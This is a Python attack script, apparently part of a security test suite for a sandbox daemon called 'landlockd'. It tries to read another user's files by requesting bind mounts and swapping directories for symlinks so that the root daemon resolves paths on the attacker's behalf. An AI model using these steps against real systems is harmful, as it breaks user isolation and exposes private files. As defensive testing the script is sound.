#!/usr/bin/env python3
"""Attack: read another user's files through paths a root daemon resolves
for its client (issue 10, item 4).

Run inside a sandbox that a root `landlockd serve --allow-uid N` started
for uid N. Each step prints `STEP: OK` or `STEP: ERRNO`, and a file read
successfully prints its content on the next line as `content: ...`.

  read PATH              open PATH and print its first line
  bind SRC TARGET        mount(SRC, TARGET, MS_BIND) (brokered mount_bind)
  swap PATH DEST         replace PATH (a directory) with a symlink to DEST
"""

import ctypes
import errno
import os
import sys

MS_BIND = 4096
libc = ctypes.CDLL(None, use_errno=True)
libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_void_p]


def report(step, err=0, content=None):
    print(f"{step}: {'OK' if not err else errno.errorcode.get(err, err)}")
    if content is not None:
        print(f"content: {content}")
    sys.stdout.flush()


def main(args):
    while args:
        op = args.pop(0)
        if op == "read":
            path = args.pop(0)
            try:
                with open(path) as f:
                    report(f"read {path}", 0, f.readline().rstrip("\n"))
            except OSError as e:
                report(f"read {path}", e.errno)
        elif op == "bind":
            src, target = args.pop(0), args.pop(0)
            rc = libc.mount(src.encode(), target.encode(), None, MS_BIND, None)
            report(f"bind {src}", ctypes.get_errno() if rc else 0)
        elif op == "swap":
            path, dest = args.pop(0), args.pop(0)
            try:
                os.rename(path, path + ".old")
                os.symlink(dest, path)
                report(f"swap {path}")
            except OSError as e:
                report(f"swap {path}", e.errno)
        else:
            sys.exit(f"unknown step {op!r}")


main(sys.argv[1:])
